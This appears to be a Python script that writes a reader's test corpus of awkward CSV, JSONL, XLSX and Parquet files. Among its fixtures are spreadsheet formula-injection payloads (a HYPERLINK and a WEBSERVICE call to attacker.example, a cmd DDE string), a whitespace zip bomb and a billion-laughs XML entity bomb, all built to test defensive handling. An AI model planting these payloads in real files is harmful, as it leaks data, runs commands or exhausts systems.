"""Write the reader corpus: real-world extract files, each exercising one trap.

Run from the repository root: `.venv/bin/python tests/data/corpus/make_corpus.py`.
The files are committed; this script is kept so that they can be regenerated or extended.
README.md beside it says what each file exercises. Large files are made by the tests.
"""

from __future__ import annotations

import datetime as dt
import gzip
import io
import re
import struct
import zipfile
import zlib
from decimal import Decimal
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from openpyxl import Workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

HERE = Path(__file__).resolve().parent
FIXED_TIME = dt.datetime(2026, 1, 2, 3, 4, 5)


def write(name: str, data: bytes | str, encoding: str = "utf-8") -> None:
    raw = data.encode(encoding) if isinstance(data, str) else data
    (HERE / name).write_bytes(raw)


# Encodings.

write(
    "utf8_comma.csv",
    "customer_id,first_name,last_name,country,email\n"
    "00123,Zoë,Müller,NA,zoe@example.org\n"
    "00124,José,Niño,DE,jose@example.org\n"
    "00125,Łukasz,Ærøskøbing,DK,lukasz@example.org\n"
    "00126,美咲,佐藤,JP,misaki@example.org\n",
)
write(
    "utf8_bom_semicolon.csv",
    "\ufeffcustomer_id;name;amount;opt_in\r\n"
    "00123;Zoë Müller;3,50;ja\r\n"
    "007;François Lefèvre;12,00;nein\r\n"
    "NA;Åsa Öberg;0,99;ja\r\n",
)
write(
    "utf16le_bom_tab.txt",
    "\ufeffcustomer_id\tname\tcity\r\n00123\tZoë Müller\tKöln\r\n00124\tRenée Côté\tMontréal\r\n",
    "utf-16-le",
)
write(
    "utf16be_bom_comma.csv",
    "\ufeffcustomer_id,name,city\n00123,Søren Kierkegård,København\n0042,Ana Conceição,Évora\n",
    "utf-16-be",
)
write("utf16le_no_bom.csv", "customer_id,name\r\n00123,Zoë\r\n", "utf-16-le")
write(
    "cp1252_accents.csv",
    "customer_id,name,city,note\r\n"
    "00123,José Müller,Zürich,O’Brien’s friend\r\n"
    "00124,Zoë Ñandú,São Paulo,price 12 €\r\n"
    "00125,François Œuvre,Besançon,“quoted” – dash\r\n",
    "cp1252",
)
# 0x81 is not a character in Windows-1252: that row cannot be decoded.
write(
    "cp1252_undefined_byte.csv",
    "customer_id,name\r\n".encode("cp1252")
    + "00123,René\r\n".encode("cp1252")
    + b"00124,Bad\x81Byte\r\n"
    + "00125,Zoë\r\n".encode("cp1252"),
)
# UTF-8 with one line pasted from a Windows-1252 file.
write(
    "mixed_utf8_cp1252.csv",
    b"customer_id,name\n"
    + "00123,Zoë Müller\n".encode()
    + "00124,José Niño\n".encode()
    + "00125,Renée\n".encode("cp1252")
    + "00126,Łukasz\n".encode(),
)

# Delimiters and quoting.

write(
    "pipe_delimited.txt", "customer_id|email|opt_in\n00123|a@example.org|Y\n00124|b@example.org|N\n"
)
write(
    "tab_separated.tsv",
    'customer_id\temail\tnote\n00123\ta@example.org\tsays "hi", often\n00124\tb@example.org\t\n',
)
write(
    "semicolon_decimal_comma.csv",
    "customer_id;revenue;ordered_at\n00123;1.234,56;05.01.2024\n00124;0,99;06.01.2024\n",
)
write(
    "single_quoted.csv",
    "'customer_id','name','city'\n'00123','Smith, John','Cork'\n'00124','O''Neil, Ann','Galway'\n",
)
write(
    "quoted_delimiters.csv",
    "customer_id,name,address\n"
    '00123,"Smith, John","1 Main St, Apt 2"\n'
    '00124,"Doe ""JD"" Jane","Rue de l\'Église, 3"\n'
    '00125,"","|;\t,"\n',
)
write(
    "quoted_newlines.csv",
    "customer_id,name,notes\n"
    '00123,Ann,"first line\nsecond line"\n'
    "00124,Bob,plain\n"
    '00125,Cid,"a\n\nb\nc"\n'
    "00126,Dee,last\n",
)
write(
    "crlf_line_endings.csv",
    'customer_id,name,notes\r\n00123,Ann,"two\r\nlines"\r\n00124,Bob,one\r\n',
)
write("cr_line_endings.csv", "customer_id,name\r00123,Ann\r00124,Bob\r")
write("no_trailing_newline.csv", "customer_id,name\n00123,Ann\n00124,Bob")
write(
    "blank_lines.csv",
    "customer_id,name\n\n00123,Ann\n\n\n00124,Bob\n   \n00125,Cid\n\n",
)
write(
    "ragged_rows.csv",
    "customer_id,email,opt_in\n"
    "00123,a@example.org,Y\n"
    "00124,SECRET-short@example.org\n"
    "00125,c@example.org,Y\n"
    "00126,SECRET-long@example.org,Y,SECRET-extra\n"
    "00127,e@example.org,N\n",
)
write(
    "unterminated_quote.csv",
    'customer_id,name\n00123,Ann\n00124,"SECRET never closed\n00125,Cid\n00126,Dee\n',
)
write(
    "stray_quotes.csv",
    'customer_id,height,name\n00123,5\'10",Ann\n00124,6\'1",Bob "the builder"\n00125,"5""9",Cid\n',
)
write(
    "excel_sep_hint.csv",
    "sep=;\r\ncustomer_id;name,city\r\n00123;Smith, John\r\n;\r\n0042;Zoë\r\n",
)
write("empty.csv", b"")
write("blank_only.csv", "\r\n\r\n   \r\n")
write("header_only.csv", "customer_id,email,opt_in\n")
write("header_only_no_newline.csv", "customer_id;email")
write(
    "duplicate_headers.csv",
    "customer_id,email,Email,customer_id\n00123,a@example.org,b@example.org,00999\n",
)
write("blank_header.csv", "customer_id,,name,\n00123,x,Ann,y\n00124,,Bob,\n")
write("single_column.csv", 'full_name\nSmith, John\n"Doe, Jane"\nMüller\n')

# Values that tools like to change.

write(
    "mixed_dates.csv",
    "customer_id,opt_in_date\n"
    "00123,2024-01-05\n"
    "00124,05/01/2024\n"
    "00125,1/5/24\n"
    "00126,5 Jan 2024\n"
    "00127,20240105\n"
    "00128,2024-01-05T10:00:00+02:00\n"
    "00129,45296\n"
    "00130,Jan 5th 2024 10am\n",
)
write(
    "leading_zeros_na.csv",
    "customer_id,country,phone,score\n"
    "00123,NA,+4915112345678,1e5\n"
    "0,N/A,0049 151 123,-0\n"
    "000,null,,0x1F\n"
    "NA,NULL,00441234,TRUE\n"
    " 00125 ,nan,1234567890123456789012,1.50\n"
    "007,None,(555) 010-0000,\n",
)
write(
    "formulas.csv",
    "customer_id,name,website\n"
    '00123,"=HYPERLINK(""http://attacker.example/?d=""&A2,""Details"")",x\n'
    "00124,+cmd|' /C calc'!A0,y\n"
    "00125,-1+1,z\n"
    "00126,@SUM(1+1),w\n"
    '00127,"\t=1+1","=1+1\r"\n',
)

# CRM-style exports.

CONSENT_HEADER = [
    "customer_id", "email", "first_name", "last_name", "country", "email_opt_in",
    "email_opt_in_date", "sms_opt_in", "sms_opt_in_date", "push_opt_in", "phone_opt_in",
    "opt_in_date", "opt_out_date", "consent_source", "consent_text_version", "ip_address",
    "double_opt_in_confirmed", "last_updated", "gdpr_region", "marketing_preferences",
    "lifetime_value", "segment",
]  # fmt: skip
CONSENT_ROWS = [
    ["00123", "zoe@example.org", "Zoë", "Müller", "DE", "Y", "2024-01-05", "N", "", "TRUE",
     "false", "2024-01-05", "", "web_form", "v3", "192.0.2.10", "yes", "2024-02-01 10:00",
     "EU", "newsletter;offers", "120.50", "premium"],
    ["00124", "ann@example.org", "Ann", "O'Neil", "NA", "yes", "05/01/2024", "opted_in",
     "05/01/2024", "1", "0", "05/01/2024", "", "store", "v2", "", "", "2024-02-02",
     "", "", "0", ""],
    ["00125", "", "Bob", "Smith, Jr.", "US", "N", "", "Y", "2023-12-31T23:59:59Z", "",
     "", "2023-12-31", "2024-03-01", "import", "", "198.51.100.7", "no", "", "US-CA",
     "", "", "basic"],
    ["0", "cid@example.org", "Cid", "", "GB", "opt-out", "", "", "", "false", "true", "",
     "2024-01-10", "call_centre", "v3", "", "", "10 Jan 2024", "UK", "sms", "15", "NA"],
]  # fmt: skip
csv_lines = [",".join(CONSENT_HEADER)]
for row in CONSENT_ROWS:
    csv_lines.append(",".join(f'"{v}"' if "," in v else v for v in row))
write("crm_consent_export.csv", "\r\n".join(csv_lines) + "\r\n")

CUSTOMER_HEADER = ["Customer ID", "E-mail", "cust_no", "created", "Full Name", "Phone", "Country"]
CUSTOMER_ROWS = [
    ["00123", "Zoe@Example.org", "000123", "2024-01-05", "Zoë Müller", "+49 151 000", "NA"],
    ["00124", "ann@example.org ", "000124", "5/1/2024", "Ann O'Neil", "", "IE"],
    ["A-77", "", "077", "2023-12-31 23:59", "Smith, John", "0044 20 7946 0000", "GB"],
]
write(
    "crm_customer_list.csv",
    ",".join(f'"{h}"' for h in CUSTOMER_HEADER)
    + "\n"
    + "".join(",".join(f'"{v}"' for v in row) + "\n" for row in CUSTOMER_ROWS),
)

# JSON Lines.

write(
    "events.jsonl",
    '{"customer_id": "00123", "event": "opt_in", "amount": 1.10, "n": 7, "ok": true,'
    ' "meta": {"source": "web", "ids": [1, 2.50]}, "note": null}\r\n'
    "\r\n"
    '{"customer_id": "NA", "event": "opt_out", "tags": ["a", "b"], "ok": false,'
    ' "name": "Zoë \\u00fc \\"q\\""}\r\n'
    '{"event": "visit", "customer_id": "007", "big": 12345678901234567890123, "e": 1e5}\r\n',
)
write(
    "bad_lines.jsonl",
    '{"customer_id": "00123", "email": "a@example.org"}\n'
    '{"customer_id": "00124", "email": "SECRET-broken@example.org"\n'
    '["SECRET-array"]\n'
    '{"customer_id": "00125", "email": "SECRET@example.org", "email": "again"}\n'
    "\n"
    '{"customer_id": "00126", "Email": "d@example.org", "": "blank key"}\n',
)
write(
    "json_document.json",
    '[\n  {"customer_id": "00123"},\n  {"customer_id": "00124"}\n]\n',
)

# Files that are not what their name says.

PNG = (
    b"\x89PNG\r\n\x1a\n"
    + struct.pack(">I", 13)
    + b"IHDR"
    + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)))
)
idat = zlib.compress(b"\x00\xff\x00\x00")
PNG += struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat))
PNG += struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
write("renamed_png.csv", PNG)
# The first bytes of a Windows program: a DOS header and its stub message.
write(
    "renamed_exe.csv",
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\xb8" + b"\x00" * 47
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 8,
)  # fmt: skip
write("gzipped.csv", gzip.compress(b"customer_id,email\n00123,a@example.org\n", mtime=0))
# The signature of an OLE compound file: legacy .xls, or an encrypted .xlsx.
write("legacy.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_TIME.timetuple()[:6])
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


write(
    "zip_not_workbook.xlsx",
    zip_bytes({"customers.csv": b"customer_id,email\n00123,a@example.org\n"}),
)
write(
    "truncated.parquet",
    b"PAR1\x15\x04\x15\x10\x15\x14L\x15\x02\x15\x00\x12\x00\x00" + b"garbage" * 4,
)

# Workbooks.


def workbook_bytes(wb: Workbook) -> bytes:
    """The workbook's bytes, the same on every run (openpyxl stamps the time of saving)."""
    wb.properties.created = FIXED_TIME
    buffer = io.BytesIO()
    wb.save(buffer)
    stamp = FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ")
    return patched(
        buffer.getvalue(),
        "docProps/core.xml",
        lambda x: re.sub(r"(<dcterms:modified[^>]*>)[^<]*", rf"\g<1>{stamp}", x),
    )


def patched(data: bytes, member: str, change) -> bytes:
    """Rewrite one part of a workbook's zip with `change(text) -> text`."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members[member] = change(members[member].decode()).encode()
    return zip_bytes(members)


def save(name: str, wb: Workbook) -> None:
    write(name, workbook_bytes(wb))


wb = Workbook()
ws = wb.active
ws.title = "Customers"
ws.append(["customer_id", "padded_id", "name", "amount", "whole", "third", "flag", "when",
           "error", "big", "negative"])  # fmt: skip
ws.append(["00123", 123, "Zoë", 1.5, 3.0, 0.1 + 0.2, True, dt.datetime(2024, 1, 5, 13, 45, 30),
           "#N/A", 12345678901234567, -42])  # fmt: skip
ws.append(["NA", 7, "", 0.25, 1000000, 1 / 3, False, dt.date(2024, 2, 29), None, 1e20, -0.5])
ws.append([None, None, "Müller", None, None, None, None, None, None, None, None])
for row in (2, 3):
    ws.cell(row, 2).number_format = "000000"
ws.cell(3, 8).number_format = "yyyy-mm-dd"
save("typed_cells.xlsx", wb)

wb = Workbook()
ws = wb.active
ws.title = "Dates"
ws.append(["customer_id", "iso", "day_first", "with_time", "general", "time_only", "one_second"])
ws.append(["00123", 45292, 45292, 45292.75, 45292, 0.5, 45292 + 1 / 86400])
ws.append(["00124", 60, 61, 1.25, 1, 0.75, 2958465])
for row in (2, 3):
    for col, fmt in ((2, "yyyy-mm-dd"), (3, "dd/mm/yyyy"), (4, "yyyy-mm-dd hh:mm"),
                     (6, "hh:mm"), (7, "yyyy-mm-dd hh:mm:ss")):  # fmt: skip
        ws.cell(row, col).number_format = fmt
save("serial_dates.xlsx", wb)

wb = Workbook()
wb.epoch = CALENDAR_MAC_1904
ws = wb.active
ws.append(["customer_id", "opt_in_date"])
ws.append(["00123", 1])
ws.append(["00124", 43830])  # 2019-12-31 in the 1900 system
for row in (2, 3):
    ws.cell(row, 2).number_format = "yyyy-mm-dd"
save("dates_1904.xlsx", wb)

wb = Workbook()
ws = wb.active
ws.title = "Consents"
ws.append(["customer_id", "email_opt_in"])
ws.append(["00123", "Y"])
ws.append(["00124", "N"])
other = wb.create_sheet("Archive")
other.append(["customer_id", "email_opt_in"])
other.append(["SECRET-00999", "Y"])
wb.create_sheet("Notes")
save("two_sheets.xlsx", wb)

wb = Workbook()
wb.active.title = "Cover"
ws = wb.create_sheet("Data")
ws.append(["customer_id", "sms_opt_in"])
ws.append(["00123", "yes"])
save("first_sheet_empty.xlsx", wb)

wb = Workbook()
wb.active.title = "Empty"
save("empty_workbook.xlsx", wb)

wb = Workbook()
ws = wb.active
ws.append(["customer_id", "name", "computed", "text_formula"])
ws.append(["00123", '=HYPERLINK("http://attacker.example/?d="&A2,"Details")', "=1+1", None])
ws.append(["00124", "+cmd|' /C calc'!A0", "=SUM(A2:A3)", None])
ws.append(["00125", "-1+1", '=WEBSERVICE("http://attacker.example/")', None])
ws.append(["00126", "@SUM(1+1)", "=1/0", None])
ws["D2"] = "=1+1"
ws["D2"].data_type = "s"  # text that looks like a formula
data = workbook_bytes(wb)
# Excel stores each formula's last result: give =1+1 a cached 2 that must not be read.
data = patched(
    data, "xl/worksheets/sheet1.xml", lambda x: x.replace("<f>1+1</f><v />", "<f>1+1</f><v>2</v>")
)
write("formulas.xlsx", data)

wb = Workbook()
ws = wb.active
ws.title = "Consent export"
ws.append(CONSENT_HEADER)
for row in CONSENT_ROWS:
    ws.append(row)
ws.cell(2, 7).value = dt.date(2024, 1, 5)  # a real date cell among text dates
ws.cell(2, 7).number_format = "yyyy-mm-dd"
save("crm_consent_export.xlsx", wb)

wb = Workbook()
ws = wb.active
ws.title = "Customers"
ws["A3"], ws["B3"], ws["C3"], ws["D3"] = CUSTOMER_HEADER[:4]
ws["A4"], ws["B4"], ws["C4"] = "00123", "zoe@example.org", 123
ws["C4"].number_format = "000000"
ws["D4"] = dt.date(2024, 1, 5)
ws["D4"].number_format = "dd/mm/yyyy"
ws["A6"], ws["B6"], ws["C6"], ws["D6"] = "00124", "ann@example.org", "000124", "5/1/2024"
save("header_below_blank_rows.xlsx", wb)

wb = Workbook()
ws = wb.active
ws.append(["customer_id", None, "email"])
ws.append(["00123", "x", "a@example.org", "beyond"])
ws.append(["00124", None, "b@example.org"])
save("blank_header.xlsx", wb)

wb = Workbook()
ws = wb.active
ws.append(["customer_id", "email", "opt_in"])
ws.append(["00123", "a@example.org", "Y"])
ws.append(["00124", "b@example.org", "N"])
# Some writers put a wrong <dimension>: trusting it would drop columns B and C.
write(
    "wrong_dimension.xlsx",
    patched(workbook_bytes(wb), "xl/worksheets/sheet1.xml",
            lambda x: x.replace('<dimension ref="A1:C3" />', '<dimension ref="A1" />')),
)  # fmt: skip

# A real workbook whose sheet is padded with 10 MB of white space: a few KB on disk.
wb = Workbook()
wb.active.append(["customer_id"])
wb.active.append(["00123"])
write(
    "zip_bomb.xlsx",
    patched(workbook_bytes(wb), "xl/worksheets/sheet1.xml",
            lambda x: x.replace("<sheetData>", "<sheetData>" + " " * (10 * 1024**2))),
)  # fmt: skip

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
write(
    "xml_entity_bomb.xlsx",
    patched(workbook_bytes(wb), "xl/worksheets/sheet1.xml",
            lambda x: LAUGHS + x.replace("<t>00123</t>", "<t>&lol9;</t>")),
)  # fmt: skip

# Parquet with typed columns.

table = pa.table(
    {
        "customer_id": pa.array(["00123", "NA", None], pa.string()),
        "n": pa.array([1, None, -7], pa.int64()),
        "ratio": pa.array([1.0, 2.5, None], pa.float64()),
        "flag": pa.array([True, False, None], pa.bool_()),
        "created": pa.array(
            [dt.datetime(2024, 1, 5, 13, 45), None, dt.datetime(2023, 12, 31)], pa.timestamp("us")
        ),
        "day": pa.array([dt.date(2024, 1, 5), dt.date(2024, 2, 29), None], pa.date32()),
        "amount": pa.array([Decimal("12.30"), None, Decimal("-0.05")], pa.decimal128(10, 2)),
        "tags": pa.array([["a", "b"], [], None], pa.list_(pa.string())),
        "segment": pa.array(["premium", "basic", "premium"]).dictionary_encode(),
        "raw": pa.array([b"ok", b"\xff\xfe", None], pa.binary()),
    }
)
pq.write_table(table, HERE / "typed.parquet")
